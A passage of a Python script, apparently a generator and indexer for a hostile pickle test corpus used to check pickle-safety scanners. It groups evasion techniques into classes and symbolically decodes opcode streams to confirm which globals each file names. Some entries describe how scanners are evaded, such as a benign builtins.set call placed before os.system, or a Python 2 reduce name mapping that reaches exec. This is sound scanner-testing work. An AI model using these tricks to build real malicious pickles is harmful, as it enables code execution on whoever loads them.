    "p2_allowed_then_forbidden.pkl": ("global-spelling", "an allowed builtins.set call first, then os.system (a scanner that judges only the first global misses it)", PS + " malicious6.pkl (benign first)", "unsafe", ["os.system"]),
    "p0_py2_name_mapping_reduce_exec.pkl": ("global-spelling", "__builtin__.reduce: NAME_MAPPING maps it to functools.reduce, which calls exec('import os; ...', {}) (reduce(f, [x], init) is f(init, x)); a scanner that matches only Python 3 names misses both", CPY_COMPAT, "unsafe", ["functools.reduce", "builtins.exec"]),
}


def existing_entries():
    manifest = json.loads((HERE / "manifest.json").read_text())
    out = []
    for m in manifest:
        f = m["file"]
        if f in EXISTING:
            cls, tech, src, expect, gadget = EXISTING[f]
        else:  # a file added to corpus/generate.py after this script was written
            e = m.get("expect", {})
            cls, tech, src, expect = "gadget", m.get("description", ""), "corpus/generate.py", "unsafe"
            gadget = [f"{e['module']}.{e['name']}"] if "module" in e else []
        out.append({"file": f, "class": cls, "technique": tech, "source": src, "expect": expect, "gadget": gadget})
    return out


# ===========================================================================
# Self-check: which globals does a stream spell? (symbolic, nothing imported)
# ===========================================================================
_STR_OPS = {"UNICODE", "SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8", "STRING", "BINSTRING", "SHORT_BINSTRING"}
_MEMO_PUT = {"PUT", "BINPUT", "LONG_BINPUT"}
_MEMO_GET = {"GET", "BINGET", "LONG_BINGET"}


class _Opaque:
    pass


def spelled_globals(data):
    """Globals named by GLOBAL/INST/STACK_GLOBAL in every stream of `data` (until an error),
    with protocol < 3 names mapped as CPython's fix_imports does."""
    from _compat_pickle import IMPORT_MAPPING, NAME_MAPPING
    found = []
    pos = 0
    while pos < len(data):
        stack, marks, memo, proto = [], [], {}, 0

        def name(mod, nm):
            if proto < 3:
                if (mod, nm) in NAME_MAPPING:
                    mod, nm = NAME_MAPPING[(mod, nm)]
                elif mod in IMPORT_MAPPING:
                    mod = IMPORT_MAPPING[mod]
            found.append(f"{mod}.{nm}")

        end = None
        try:
            for op, arg, p in pickletools.genops(io.BytesIO(data[pos:])):
                n = op.name
                if n == "PROTO":
                    proto = arg
                elif n in _STR_OPS:
                    stack.append(arg if isinstance(arg, str) else arg)
                elif n == "MARK":
                    marks.append(len(stack))
                elif n in ("GLOBAL", "INST"):
                    mod, nm = arg.split(" ", 1)
                    name(mod, nm)
                    if n == "INST":
                        del stack[marks.pop():]
                    stack.append(_Opaque())
                elif n == "STACK_GLOBAL":
                    nm, mod = (stack.pop() if stack else None), (stack.pop() if stack else None)
                    if isinstance(mod, str) and isinstance(nm, str):
                        name(mod, nm)
                    stack.append(_Opaque())
                elif n in _MEMO_PUT:
                    memo[arg] = stack[-1] if stack else None
                elif n == "MEMOIZE":
                    memo[len(memo)] = stack[-1] if stack else None
                elif n in _MEMO_GET:
                    stack.append(memo.get(arg))
                elif n == "DUP":
                    stack.append(stack[-1])
                elif n == "POP":
                    if stack:
                        stack.pop()
                    elif marks:
                        marks.pop()
                elif n == "POP_MARK":
                    del stack[marks.pop():]
                elif n == "STOP":
                    end = pos + p + 1
                    break
                else:
                    before = op.stack_before
                    if pickletools.markobject in before:
                        del stack[marks.pop():]
                        k = len(before) - 2  # items under the mark (e.g. the list for APPENDS)
                    else:
                        k = len(before)
                    for _ in range(min(k, len(stack))):
                        stack.pop()
                    stack.extend(_Opaque() for _ in op.stack_after)
        except Exception:
            break
        if end is None:
            break
        pos = end
        # skip non-pickle trailing bytes: continue only if the next byte starts a plausible stream
        if pos < len(data) and data[pos:pos + 1] not in (b"\x80", b"c", b"(", b"]", b"}", b"V", b"S", b"\x8c", b"X"):
            break
    return found


def self_check():
    problems = []
    for e in ENTRIES:
        streams = e["_streams"]
        if streams is None:
            streams = [(None, e["_names"])]
        for s in streams:
            data, names = (s if isinstance(s, tuple) else (s, e["_names"]))
            if data is None:
                data = (HERE / e["file"]).read_bytes()
            seen = spelled_globals(data)
            for nm in names:
                if nm not in seen:
                    problems.append(f"{e['file']}: {nm!r} not spelled (saw {seen[:8]})")
    return problems


# ===========================================================================
# Output
# ===========================================================================
CLASSES = ["global-spelling", "build-abuse", "memo-confusion", "payload-then-malformed", "indirection",
           "nested-pickle", "gadget", "container", "resource"]


def write_index(all_entries):
    public = [{k: e[k] for k in ("file", "class", "technique", "source", "expect", "gadget")} for e in all_entries]
    public.sort(key=lambda e: (CLASSES.index(e["class"]), e["file"]))
    (HERE / "techniques.json").write_text(json.dumps(public, indent=1, ensure_ascii=False) + "\n")
    lines = [
        "# Hostile corpus by technique",
        "",
        "Written by `generate_techniques.py` (the `t_*` files, `techniques.json`, this table); the `p*`/`stack_*` files",
        "come from `corpus/generate.py` (see `manifest.json`). `techniques.json` has, per file, the technique, its public",
        "source, the expected verdict (`unsafe` or `inconclusive`, never clean) and the gadgets involved.",
        "",
        "| class | files |",
        "| --- | --- |",
    ]
    for c in CLASSES:
        files = [e["file"] for e in public if e["class"] == c]
        lines.append(f"| {c} ({len(files)}) | " + ", ".join(f"`{f}`" for f in files) + " |")
    (HERE / "TECHNIQUES.md").write_text("\n".join(lines) + "\n")
    return public


def main():
    for p in HERE.glob("t_*"):
        p.unlink()
    global_spelling()
    build_abuse()
    memo_confusion()
    payload_then_malformed()
    indirection()
    nested()
    gadgets()
    containers()
    resource()
    names = [e["file"] for e in ENTRIES]
    assert len(names) == len(set(names)), "duplicate file names"
    old = existing_entries()
    public = write_index(old + ENTRIES)
    on_disk = sorted(p.name for p in HERE.iterdir()
                     if p.is_file() and p.name not in ("manifest.json", "techniques.json", "TECHNIQUES.md", Path(__file__).name))
    listed = sorted(e["file"] for e in public)
    missing = sorted(set(on_disk) - set(listed))
    counts = {c: sum(1 for e in public if e["class"] == c) for c in CLASSES}
    print(f"wrote {len(ENTRIES)} t_ files; techniques.json lists {len(public)} files")
    for c in CLASSES:
        print(f"  {c:24} {counts[c]}")
    if missing:
        print("files in corpus/hostile/ not in techniques.json:", missing)
    for s in SKIPPED:
        print("skipped:", s)
    if "--no-check" not in sys.argv:
        problems = self_check()
        for p in problems:
            print("CHECK:", p)
        print("self-check:", "ok" if not problems else f"{len(problems)} problem(s)")
        if problems or missing:
            sys.exit(1)


if __name__ == "__main__":
    main()
